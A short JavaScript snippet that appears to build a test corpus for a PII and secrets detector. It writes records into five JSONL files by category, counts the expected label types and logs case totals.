const ORDER = ['pii', 'secrets', 'evasions', 'near-misses', 'negatives']
const labelCount = new Map()
for (const file of ORDER) {
  const records = files.get(file)
  const lines = records.map(({ __starts, ...record }) => JSON.stringify(record))
  writeFileSync(join(OUT, `${file}.jsonl`), lines.join('\n') + '\n')
  for (const record of records) for (const label of record.expect) labelCount.set(label.type, (labelCount.get(label.type) ?? 0) + 1)
  console.log(`${file}.jsonl: ${records.length} cases`)
}
console.log(`labels: ${[...labelCount].map(([type, n]) => `${type} ${n}`).join(', ')}`)
